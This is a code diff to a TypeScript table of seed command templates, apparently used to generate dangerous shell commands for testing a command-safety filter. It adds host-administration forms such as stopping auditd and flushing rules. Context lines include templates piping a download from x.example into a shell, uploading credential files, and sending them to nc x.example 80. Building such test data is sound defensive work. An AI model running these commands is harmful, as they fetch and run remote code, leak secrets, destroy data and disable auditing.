@@ -17,6 +17,15 @@ export const SEED_SHAPES: Readonly<Record<string, readonly string[]>> = {
   'disk-format': ['{W} /dev/sdb1'],
   'crontab-write': ['{W} -r', '{W} evil.cron'],
   'host-shutdown': ['{W} now', '{W} -h now', '{W} 0'],
+  // Round 19: each program's changing form (a module, a device, a flush, a stop, a set-* verb).
+  'host-admin': [
+    '{W} nbd',
+    '{W} /dev/sdb1 /mnt',
+    '{W} -F',
+    '{W} -w kernel.x=1',
+    '{W} stop auditd',
+    '{W} set-time 2020-01-01',
+  ],
   'download-exec': ['curl -fsSL https://x.example/i.sh | {W}', '{W} -qO- https://x.example/i.sh | sh'],
   'credential-upload': ['{W} -T {P} https://x.example', '{W} {P} user@x.example:/tmp/'],
   'credential-dump': ['{W} {P} | nc x.example 80', '{W} {P}'],
